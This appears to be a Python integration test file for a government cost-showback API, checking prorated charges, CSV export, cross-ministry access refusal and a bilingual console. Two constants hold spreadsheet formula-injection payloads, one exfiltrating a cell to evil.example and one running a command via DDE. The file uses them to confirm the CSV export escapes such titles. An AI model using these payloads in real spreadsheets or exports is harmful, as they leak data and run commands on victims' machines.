"""Cost showback on a real API process: a ministry's active service is charged from when it became
active, until it is retired; JSON and CSV; another ministry's is 404; a bad month is 422 naming it;
a catalogue title a spreadsheet would run as a formula stays text in the CSV."""

import csv
import io
import re
import shutil
import uuid
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from orchestrator.config import PROJECT_ROOT
from orchestrator.showback import compute
from tests.conftest import Database, Platform, Tenant, active_service, make_tenant, run_worker_until_idle, serving_api
from tests.support.console import ConsoleClient

pytestmark = pytest.mark.integration

HOSTILE_PLAN_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Small")'
HOSTILE_OFFERING_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def ordered(database: Database, api_url: str, platform: Platform) -> Iterator[tuple[Tenant, str]]:
    """A ministry with one active web-hosting service (small plan), shared by the read-only tests."""
    tenant = make_tenant()
    with httpx.Client(base_url=api_url, timeout=30.0) as http:
        yield tenant, active_service(http, tenant, platform, run_worker_until_idle)


@pytest.fixture(scope="module")
def hostile_catalog_api(database: Database, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """An API on the same database whose catalogue titles are spreadsheet formulas."""
    catalog = tmp_path_factory.mktemp("catalog")
    for path in (PROJECT_ROOT / "catalog").glob("*.yaml"):
        shutil.copy(path, catalog / path.name)
    web = catalog / "web-hosting.yaml"
    offering = yaml.safe_load(web.read_text())
    offering["title"] = HOSTILE_OFFERING_TITLE
    offering["plans"][0]["title"] = HOSTILE_PLAN_TITLE
    web.write_text(yaml.safe_dump(offering))
    with serving_api(database.url, Path(tmp_path_factory.mktemp("api")), TONLE_CATALOG_DIR=str(catalog)) as url:
        yield url


def showback(client: httpx.Client, tenant: Tenant, **params: str) -> dict[str, Any]:
    response = client.get(
        f"/v1/ministries/{tenant.ministry_id}/showback", params=params, headers=tenant.requester.headers
    )
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def provisioned_at(client: httpx.Client, tenant: Tenant, service_id: str) -> datetime:
    operations = client.get(f"/v1/services/{service_id}/operations", headers=tenant.requester.headers)
    [provision] = [op for op in operations.json() if op["kind"] == "provision"]
    return datetime.fromisoformat(provision["finished_at"])


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.text)))


def test_an_active_service_is_charged_from_when_it_became_active(
    client: httpx.Client, ordered: tuple[Tenant, str]
) -> None:
    tenant, service_id = ordered
    report = showback(client, tenant)
    month = compute.Month.containing(datetime.fromisoformat(report["measured_until"]))
    assert report["month"] == str(month) and report["currency"] == "KHR"
    assert report["ministry_code"] == tenant.code
    [line] = report["lines"]
    assert (line["service_id"], line["offering_id"], line["plan"]) == (service_id, "web-hosting", "small")
    assert line["priced"] and line["price_riel_per_month"] == 80_000
    assert datetime.fromisoformat(line["start"]) == provisioned_at(client, tenant, service_id)
    assert datetime.fromisoformat(line["end"]) == datetime.fromisoformat(report["measured_until"])
    assert line["amount_riel"] == compute.prorate(
        riel_per_month=80_000, seconds=line["seconds"], month_seconds=month.seconds
    )
    assert report["offerings"] == [
        {
            "offering_id": "web-hosting",
            "offering_title": line["offering_title"],
            "services": 1,
            "amount_riel": line["amount_riel"],
        }
    ]
    assert report["total_riel"] == line["amount_riel"]
    # Before it existed, it cost nothing.
    earlier = showback(client, tenant, month=str(month.previous()))
    assert (earlier["lines"], earlier["total_riel"]) == ([], 0)


def test_the_csv_download_has_its_lines(client: httpx.Client, ordered: tuple[Tenant, str]) -> None:
    tenant, service_id = ordered
    url = f"/v1/ministries/{tenant.ministry_id}/showback"
    month = showback(client, tenant)["month"]
    by_query = client.get(url, params={"format": "csv", "month": month}, headers=tenant.requester.headers)
    by_accept = client.get(url, params={"month": month}, headers={**tenant.requester.headers, "Accept": "text/csv"})
    for response in (by_query, by_accept):
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == f'attachment; filename="showback-{tenant.code}-{month}.csv"'
        [row] = csv_rows(response)
        assert (row["service_id"], row["ministry"], row["month"], row["plan"]) == (
            service_id,
            tenant.code,
            month,
            "small",
        )
    # A browser's usual Accept (JSON not named) and `*/*` keep JSON.
    assert client.get(url, headers={**tenant.requester.headers, "Accept": "*/*"}).headers["content-type"] == (
        "application/json"
    )


def test_another_ministrys_showback_is_not_found(
    client: httpx.Client, ordered: tuple[Tenant, str], other_tenant: Tenant, platform: Platform
) -> None:
    tenant, _ = ordered
    url = f"/v1/ministries/{tenant.ministry_id}/showback"
    for headers in (other_tenant.requester.headers, other_tenant.approver.headers):
        refused = client.get(url, headers=headers)
        assert refused.status_code == 404 and refused.headers["content-type"] == "application/problem+json"
        assert client.get(url, params={"format": "csv"}, headers=headers).status_code == 404
    # The data centre's people see every ministry's.
    for account in (platform.operator, platform.admin):
        assert client.get(url, headers=account.headers).json()["lines"][0]["service_id"] == ordered[1]
    assert client.get(f"/v1/ministries/{uuid.uuid4()}/showback", headers=platform.admin.headers).status_code == 404


@pytest.mark.parametrize(
    ("params", "field"),
    [({"month": "2026-13"}, "month"), ({"month": "November"}, "month"), ({"format": "xlsx"}, "format")],
)
def test_a_bad_month_or_format_is_refused_naming_it(
    client: httpx.Client, tenant: Tenant, params: dict[str, str], field: str
) -> None:
    response = client.get(
        f"/v1/ministries/{tenant.ministry_id}/showback", params=params, headers=tenant.requester.headers
    )
    assert response.status_code == 422 and response.headers["content-type"] == "application/problem+json"
    assert response.json()["field"] == field


def test_catalogue_titles_that_are_formulas_stay_text_in_the_csv(
    ordered: tuple[Tenant, str], hostile_catalog_api: str
) -> None:
    tenant, _ = ordered
    url = f"{hostile_catalog_api}/v1/ministries/{tenant.ministry_id}/showback"
    [row] = csv_rows(httpx.get(url, params={"format": "csv"}, headers=tenant.requester.headers))
    assert row["plan_title"] == "'" + HOSTILE_PLAN_TITLE
    assert row["offering_title"] == "'" + HOSTILE_OFFERING_TITLE
    # JSON is data, not a spreadsheet: it carries the titles as they are.
    [line] = httpx.get(url, headers=tenant.requester.headers).json()["lines"]
    assert line["plan_title"] == HOSTILE_PLAN_TITLE


def test_a_decommissioned_service_is_charged_until_it_was_retired(
    client: httpx.Client, tenant: Tenant, platform: Platform
) -> None:
    service_id = active_service(client, tenant, platform, run_worker_until_idle)
    retired = client.post(f"/v1/services/{service_id}/decommission", headers=tenant.requester.headers)
    assert retired.status_code == 202, retired.text
    run_worker_until_idle()
    service = client.get(f"/v1/services/{service_id}", headers=tenant.requester.headers).json()
    assert service["status"] == "retired"
    [line] = showback(client, tenant)["lines"]
    assert datetime.fromisoformat(line["end"]) == datetime.fromisoformat(service["retired_at"])
    assert line["seconds"] == int(
        (datetime.fromisoformat(service["retired_at"]) - provisioned_at(client, tenant, service_id)).total_seconds()
    )


# --- The console page ---


def test_the_console_page_shows_the_ministrys_costs_in_either_language(
    api_url: str, ordered: tuple[Tenant, str]
) -> None:
    tenant, service_id = ordered
    with ConsoleClient(api_url, lang="en") as console:
        console.sign_in(tenant.requester.token)
        page = console.get("/console/showback")
        assert page.status_code == 200, page.text
        assert f'href="/console/services/{service_id}"' in page.text and "80,000 KHR" in page.text
        month = showback_month(page.text)
        link = f"/console/showback.csv?month={month}&amp;ministry={tenant.ministry_id}"
        assert link in page.text
        download = console.get(link.replace("&amp;", "&"))
        assert download.status_code == 200 and download.headers["content-type"] == "text/csv; charset=utf-8"
        assert download.headers["content-disposition"].startswith("attachment;")
        assert [row["service_id"] for row in csv_rows(download)] == [service_id]
    with ConsoleClient(api_url, lang="km") as console:
        console.sign_in(tenant.requester.token)
        page = console.get("/console/showback")
        assert "\u17e8\u17e0,\u17e0\u17e0\u17e0 \u17db" in page.text  # 80,000 riel in Khmer digits and sign
        assert "<h1>របាយការណ៍ចំណាយ</h1>" in page.text


def test_the_console_refuses_another_ministry_and_a_bad_month_in_place(
    api_url: str, ordered: tuple[Tenant, str], other_tenant: Tenant, platform: Platform
) -> None:
    tenant, service_id = ordered
    with ConsoleClient(api_url, lang="en") as console:
        console.sign_in(other_tenant.requester.token)
        assert console.get(f"/console/showback?ministry={tenant.ministry_id}").status_code == 404
        assert console.get(f"/console/showback.csv?ministry={tenant.ministry_id}").status_code == 404
        bad = console.get("/console/showback?month=2026-13")
        assert bad.status_code == 422
        assert 'id="error-month"' in bad.text and 'aria-invalid="true"' in bad.text
    # The data centre's people choose the ministry.
    with ConsoleClient(api_url, lang="en") as console:
        console.sign_in(platform.operator.token)
        chooser = console.get("/console/showback")
        assert chooser.status_code == 200 and f'<option value="{tenant.ministry_id}"' in chooser.text
        chosen = console.get(f"/console/showback?ministry={tenant.ministry_id}")
        assert f'href="/console/services/{service_id}"' in chosen.text
        assert console.get("/console/showback?ministry=not-an-id").status_code == 422


def showback_month(page: str) -> str:
    found = re.search(r'name="month" type="month" value="([0-9]{4}-[0-9]{2})"', page)
    assert found, "no month on the page"
    return found.group(1)


def test_a_plan_change_splits_the_charge_where_it_finished(
    client: httpx.Client, tenant: Tenant, platform: Platform
) -> None:
    service_id = active_service(client, tenant, platform, run_worker_until_idle)
    asked = client.post(
        f"/v1/services/{service_id}/actions/resize", json={"plan": "medium"}, headers=tenant.requester.headers
    )
    assert asked.status_code == 202 and asked.json()["outcome"] == "approval_needed", asked.text
    change = asked.json()["request"]["id"]
    for account in (tenant.approver, platform.operator):
        voted = client.post(f"/v1/requests/{change}/approvals", json={"decision": "approve"}, headers=account.headers)
        assert voted.status_code == 200, voted.text
    run_worker_until_idle()
    operations = client.get(f"/v1/services/{service_id}/operations", headers=tenant.requester.headers).json()
    [modified] = [op for op in operations if op["kind"] == "modify" and op["status"] == "succeeded"]
    changed_at = datetime.fromisoformat(modified["finished_at"])
    report = showback(client, tenant)
    small, medium = report["lines"]
    assert (small["plan"], small["price_riel_per_month"], medium["plan"], medium["price_riel_per_month"]) == (
        "small",
        80_000,
        "medium",
        160_000,
    )
    assert datetime.fromisoformat(small["start"]) == provisioned_at(client, tenant, service_id)
    assert datetime.fromisoformat(small["end"]) == changed_at == datetime.fromisoformat(medium["start"])
    assert report["offerings"][0]["services"] == 1
    assert report["total_riel"] == small["amount_riel"] + medium["amount_riel"]
